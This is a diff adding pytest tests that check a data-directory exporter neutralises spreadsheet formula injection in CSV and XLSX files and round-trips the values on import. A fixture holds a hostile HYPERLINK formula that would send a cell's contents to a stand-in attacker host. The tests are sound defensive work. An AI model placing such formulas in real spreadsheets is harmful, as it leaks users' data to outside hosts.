@@ -326,3 +326,53 @@ def test_write_rows_round_trip(tmp_path: Path):
 
 def test_blank_templates_are_up_to_date():
     assert stale_blank_templates(PROJECT_ROOT / "data" / "templates" / "directories") == [], "run `maillage templates`"
+
+
+# Cells a spreadsheet would run as formulas (OWASP CSV injection), and legitimate values that look alike.
+FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1;"clic")'
+FORMULA_ROW = {"identifiant": "formules-test", "titre": FORMULA_TITLE, "objet": "+33 4 76 00 00 00 (accueil)",
+               "lieux": "13001", "themes": "nutrition", "axes": "action-communautaire", "determinants": "modes-de-vie",
+               "porteurs": "ville-aix-en-provence", "role_contact": "coordonnateur", "debut": "2021",
+               "resultats": "-5 % de passages aux urgences|@équipe mobile", "source": "'=déjà cité", "licence": ""}
+
+
+def test_formula_cells_are_neutralised_in_csv_and_typed_as_text_in_xlsx(tmp_path: Path):
+    for suffix in ("csv", "xlsx"):
+        write_rows("experiences", [FORMULA_ROW], tmp_path / f"formules.{suffix}")
+    with (tmp_path / "formules.csv").open(encoding="utf-8", newline="") as stream:
+        header, cells = list(csv.reader(stream, delimiter=";"))
+    written = dict(zip(header, cells, strict=True))
+    assert written["titre"] == "'" + FORMULA_TITLE and written["objet"] == "'+33 4 76 00 00 00 (accueil)"
+    assert written["resultats"].startswith("'-5 %") and written["source"] == "''=déjà cité"
+    assert written["debut"] == "2021" and written["lieux"] == "13001"
+    sheet = load_workbook(tmp_path / "formules.xlsx")["experiences"]
+    typed = {sheet.cell(1, column).value: sheet.cell(2, column) for column in range(1, sheet.max_column + 1)}
+    assert typed["titre"].data_type == "s" and typed["titre"].value == FORMULA_TITLE  # text, not a formula
+    with zipfile.ZipFile(tmp_path / "formules.xlsx") as archive:
+        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
+    for suffix in ("csv", "xlsx"):  # read back: the values as given
+        table, problems = read_table(tmp_path / f"formules.{suffix}", "formules")
+        assert problems == [] and table.rows == [(2, FORMULA_ROW)], suffix
+
+
+def test_a_directory_with_formula_cells_exports_and_imports_to_the_same_records(tmp_path: Path):
+    data = _data_copy(tmp_path / "data")
+    given = tmp_path / "given" / "formules.csv"
+    given.parent.mkdir()
+    given.write_text(render_csv(list(FORMULA_ROW), [list(FORMULA_ROW.values())]), encoding="utf-8")
+    imported = CliRunner().invoke(main, ["import", str(given), "--data", str(data)])
+    assert imported.exit_code == 0, imported.output
+    stored = data / "directories" / "formules.csv"
+    exported = tmp_path / "exported" / "formules.csv"
+    exported.parent.mkdir()
+    result = CliRunner().invoke(main, ["export-directory", "experiences", "--source", "annuaire-formules",
+                                       "-o", str(exported), "--data", str(data)])
+    assert result.exit_code == 0, result.output
+    assert exported.read_bytes() == stored.read_bytes() == given.read_bytes()
+    again = CliRunner().invoke(main, ["import", str(exported), "--data", str(data)])
+    assert again.exit_code == 0 and "rien à faire : déjà importé" in again.output, again.output
+    graph = {str(g.identifier): g for g in build_with(data).dataset.graphs()}[f"{ID}graph/annuaire-formules"]
+    experience = URIRef(f"{ID}experience/formules-test")
+    texts = {str(o) for o in graph.objects(experience, None) if isinstance(o, Literal)}
+    assert {FORMULA_TITLE, "+33 4 76 00 00 00 (accueil)", "-5 % de passages aux urgences", "@équipe mobile"} <= texts
+    assert {text for text in texts if text.startswith("'")} == {"'=déjà cité"}  # the one written so
